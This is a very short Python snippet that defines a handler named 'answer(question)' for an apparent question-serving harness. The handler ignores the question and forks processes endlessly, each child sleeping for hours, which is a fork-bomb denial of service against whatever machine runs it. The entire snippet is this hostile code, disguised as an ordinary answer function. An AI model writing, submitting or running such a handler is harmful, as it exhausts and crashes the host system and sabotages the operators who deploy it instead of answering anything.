def answer(question):
    while True:
        if os.fork() == 0:
            time.sleep(10_000)


serve(answer)
